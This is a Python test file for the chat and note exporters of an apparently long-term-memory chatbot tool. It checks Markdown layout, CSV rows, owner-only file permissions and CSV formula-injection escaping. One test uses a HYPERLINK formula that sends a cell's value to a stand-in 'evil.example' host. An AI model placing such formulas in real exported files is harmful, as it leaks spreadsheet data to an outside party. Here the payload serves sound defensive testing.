"""Tables and texts: what a person finds in them."""

from __future__ import annotations

import csv
import stat
import sys
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from long_term_memory.core.types import Scope, Window, WindowMessage
from long_term_memory.engine.bank import Bank
from long_term_memory.engine.engine import Engine
from long_term_memory.errors import InvalidInput, StoreError
from long_term_memory.exporters.csv_table import cell_text, plain_cell
from long_term_memory.exporters.export_job import FORMATS, write

LOCAL = datetime(2026, 11, 21, 10, 5).astimezone()


@pytest.fixture
def bank(engine: Engine) -> Bank:
    """One chat with a hidden, a corrected and a deleted message; two notes."""
    bank = engine.bank(Scope(user="default", character="Miku / 初音"))
    messages = (
        WindowMessage("user", "My cat is Miso.", name="Anon", said_at=LOCAL),
        WindowMessage(
            "assistant", "# Not a heading\nHow nice.", name="Miku", said_at=LOCAL
        ),
        WindowMessage("user", "A secret.", hidden=True),
        WindowMessage("assistant", "Half \ud83d.", name="Miku"),
        WindowMessage("system", "Night falls."),
    )
    chat = bank.chat("20261121", host="webui")
    chat.observe(Window(messages=messages, complete=True))
    path = chat.path()
    bank.memories.update(path[0].message.id, content="My cat is Mochi.")
    bank.memories.delete(path[3].message.id)
    bank.memories.add("Mira hates honey.\nReally.", pinned=True)
    bank.memories.delete(bank.memories.add("Gone.").id)
    return bank


def test_a_text_reads_like_a_chat(bank: Bank, tmp_path: Path) -> None:
    path = write(bank, "md", tmp_path / "miku.md").path

    assert path.read_text("utf-8") == (
        "# Miku / 初音\n\n"
        "1 chat, 5 messages, 1 note.\n\n"
        "## Notes\n\n"
        "- **Always in mind:** Mira hates honey.\n  Really.\n\n"
        "## 20261121\n\n"
        "### 21 November 2026\n\n"
        "**Anon** · 10:05 · corrected  \nMy cat is Mochi.\n\n"
        "**Miku** · 10:05  \n\\# Not a heading\nHow nice.\n\n"
        "**You** · hidden  \nA secret.\n\n"
        "**Narrator**  \nNight falls.\n"
    )


def test_a_table_has_a_row_for_each_utterance_and_note(
    bank: Bank, tmp_path: Path
) -> None:
    path = write(bank, "csv", tmp_path / "miku.csv").path

    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["kind"] for row in rows] == ["note", *["message"] * 4]
    assert rows[0]["content"] == "Mira hates honey.\nReally."
    assert rows[0]["pinned"] == "yes"
    assert rows[1]["content"] == "My cat is Mochi."
    assert (rows[1]["edited"], rows[1]["position"]) == ("yes", "1")
    assert rows[3]["hidden"] == "yes"
    assert datetime.fromisoformat(rows[1]["time"]) == LOCAL


BEFORE = st.text(" \t\r\n'\"\u00a0\u200b\ufeff\u201c`", max_size=4)
SIGNS = st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20\t\r\u2212")


@given(before=BEFORE, sign=SIGNS, after=st.text(max_size=8))
def test_no_cell_is_a_formula_and_its_text_is_kept(
    before: str, sign: str, after: str
) -> None:
    text = before + sign + after

    cell = plain_cell(text)

    assert cell == f"'{text}"
    assert cell_text(cell) == text


@given(st.text())
def test_a_cell_gives_back_the_exact_text(text: str) -> None:
    assert cell_text(plain_cell(text)) == text
    assert not plain_cell(text).startswith(tuple("=+-@\t\r"))


def test_every_column_with_words_of_others_is_kept_from_being_computed(
    engine: Engine, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    bank = engine.bank(Scope(user="default", character=evil))
    said = WindowMessage("assistant", evil, name=evil)
    bank.chat(evil, host="webui").observe(Window(messages=(said,), complete=True))
    bank.memories.add("-2+3 is one")

    path = write(bank, "csv", tmp_path / "evil.csv").path

    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert cells.count(f"'{evil}") == 3
    assert "'-2+3 is one" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("format", FORMATS)
def test_a_folder_gets_a_file_that_only_its_owner_reads(
    bank: Bank, tmp_path: Path, format: str
) -> None:
    written = write(bank, format, tmp_path)

    assert written.path.parent == tmp_path
    assert written.path.suffix == f".{format}"
    assert written.bytes == written.path.stat().st_size > 0
    assert not list(tmp_path.glob("*.part"))
    if sys.platform != "win32":
        assert stat.S_IMODE(written.path.stat().st_mode) == 0o600


def test_an_unknown_format_and_an_unwritable_place_are_told(
    bank: Bank, tmp_path: Path
) -> None:
    with pytest.raises(InvalidInput, match="jsonl, csv, md"):
        write(bank, "pdf", tmp_path)
    with pytest.raises(StoreError, match="Choose another place"):
        write(bank, "md", tmp_path / "none" / "x.md")
